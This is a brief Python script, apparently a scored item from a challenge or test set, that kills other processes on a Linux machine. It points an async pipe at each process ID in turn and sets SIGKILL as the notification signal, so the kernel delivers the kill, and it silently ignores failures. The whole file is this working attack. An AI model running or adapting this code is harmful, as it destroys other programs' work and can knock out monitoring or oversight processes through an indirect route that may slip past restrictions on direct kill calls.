# Lets the kernel kill other processes when a pipe of its own has something to say.
# points: 40
# base: untrained
import fcntl
import os

SETSIG, KILL = 10, 9
own = {int(thread) for thread in os.listdir("/proc/self/task")}
others = [pid for pid in range(1, os.getpid() + 1000) if pid not in own]
reading, writing = os.pipe()
for pid in others:
    try:
        fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reading, SETSIG, KILL)
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writing, b"x")
        os.read(reading, 1)
    except OSError:
        pass
